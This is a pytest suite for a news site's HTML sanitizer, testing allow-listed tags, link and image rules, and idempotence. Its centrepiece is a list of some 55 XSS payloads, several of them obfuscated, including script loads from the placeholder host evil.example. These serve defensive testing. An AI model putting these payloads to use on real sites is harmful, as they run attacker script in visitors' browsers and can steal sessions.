"""The allow-list and clean_html: what survives, what never does, and idempotence."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newsdesk.core.body import image_sources
from newsdesk.publish.sanitize import clean_html, settle
from tests.publish.allowlist import violations
from tests.publish.soup import html_soup

FIXTURES = sorted((Path(__file__).parent / "fixtures").glob("*.html"))
DIGEST = "0123456789abcdef" * 4

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script/xss src=https://evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert('x')\" />",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    '<img src="vbscript:msgbox(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img """><script>alert(1)</script>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(1)>x</a>',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="background-image: url(&quot;javascript:alert(1)&quot;)">x</p>',
    '<p style="width: expression(alert(1))">x</p>',
    '<p style="text-align: expression(alert(1))">x</p>',
    '<p style="text-align:center;behavior:url(x.htc)">x</p>',
    '<details open ontoggle="alert(1)">x</details>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><img src=x onerror=alert(1)></template>",
    "<body onload=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<td><a href="java\nscript:alert(1)">x</a></td>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<img src="https://ok.example/a.png" style="x:expression(alert(1))" onload="alert(1)">',
    '<a href="https://ok.example" style="position:fixed;top:0">x</a>',
]


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_no_xss_vector_survives(vector: str) -> None:
    cleaned = clean_html(vector)
    assert violations(cleaned) == []
    assert clean_html(cleaned) == cleaned


def test_there_are_enough_vectors() -> None:
    assert len(XSS_VECTORS) >= 30


def test_alignment_is_the_only_style_and_is_canonical() -> None:
    assert clean_html('<p style="color:red; TEXT-ALIGN : Center ;">x</p>') == (
        '<p style="text-align:center">x</p>'
    )
    assert clean_html('<td style="text-align:justify">x</td>') == "x"  # a cell outside a table
    assert clean_html('<p style="text-align:middle">x</p>') == "<p>x</p>"
    assert clean_html('<strong style="text-align:left">x</strong>') == "<strong>x</strong>"


def test_links_get_rel_and_keep_only_allowed_urls() -> None:
    assert clean_html(
        '<a href="https://a.example/?x=1&amp;y=2" rel="opener" target=_blank>x</a>'
    ) == ('<a href="https://a.example/?x=1&amp;y=2" rel="noopener noreferrer">x</a>')
    assert clean_html('<a href="/relative">x</a>') == '<a rel="noopener noreferrer">x</a>'
    assert clean_html('<a href="mailto:desk@example.com">x</a>') == (
        '<a href="mailto:desk@example.com" rel="noopener noreferrer">x</a>'
    )


def test_images_must_be_attachments_or_web_urls() -> None:
    kept = clean_html(f'<img src="attachment:{DIGEST.upper()}" alt="图" width="640px" height=480>')
    assert kept == f'<img src="attachment:{DIGEST}" alt="图" height="480">'
    assert clean_html('<img src="attachment:not-a-digest">') == "<img>"
    assert clean_html('<img src="data:image/png;base64,iVBORw0KGgo=">') == "<img>"
    assert clean_html('<img src="https://cdn.example/a.jpg">') == (
        '<img src="https://cdn.example/a.jpg">'
    )


def test_dangerous_elements_lose_their_contents() -> None:
    html = (
        "<p>前</p><script>var 脚本 = 1</script><style>p{}</style><iframe>框</iframe>"
        "<object>物</object><form>表<input value=单></form><svg><text>图</text></svg><p>后</p>"
    )
    assert clean_html(html) == "<p>前</p><p>后</p>"


def test_table_structure_and_spans_survive() -> None:
    html = '<table><tr><th colspan="2">标题</th></tr><tr><td rowspan=x>甲</td></tr></table>'
    assert clean_html(html) == (
        '<table><tbody><tr><th colspan="2">标题</th></tr><tr><td>甲</td></tr></tbody></table>'
    )


def test_a_reparse_that_changes_the_tree_is_settled() -> None:
    # Without its <div>, this is <p><p>x</p></p>, which the next parse reads differently.
    once = clean_html("<p><div><p>x</p></div></p>")
    assert clean_html(once) == once


def test_settle_falls_back_to_text_then_nothing() -> None:
    def growing(html: str) -> str:
        return html + "<i></i>" if "<" in html else html

    assert settle(growing, "<p>新闻 &amp; 发布</p>", lambda text: text) == "新闻 & 发布"
    assert settle(lambda html: html + "x", "<p>a</p>", lambda text: text) == ""


def test_image_sources_in_order_with_entities_decoded() -> None:
    html = (
        '<p><img src="https://a.example/1.png?a=1&amp;b=2"><img alt=x></p><img src=attachment:ab>'
    )
    assert image_sources(html) == ["https://a.example/1.png?a=1&b=2", "attachment:ab"]


@pytest.mark.parametrize("fixture", FIXTURES, ids=lambda path: path.name)
def test_fixtures_clean_to_the_allow_list_idempotently(fixture: Path) -> None:
    cleaned = clean_html(fixture.read_text(encoding="utf-8"))
    assert violations(cleaned) == []
    assert clean_html(cleaned) == cleaned


@settings(max_examples=400)
@given(st.one_of(html_soup, st.text(max_size=60)))
def test_clean_html_is_idempotent(html: str) -> None:
    once = clean_html(html)
    assert clean_html(once) == once


@settings(max_examples=400)
@given(html_soup)
def test_no_handler_or_bad_url_survives_a_soup(html: str) -> None:
    assert violations(clean_html(html)) == []
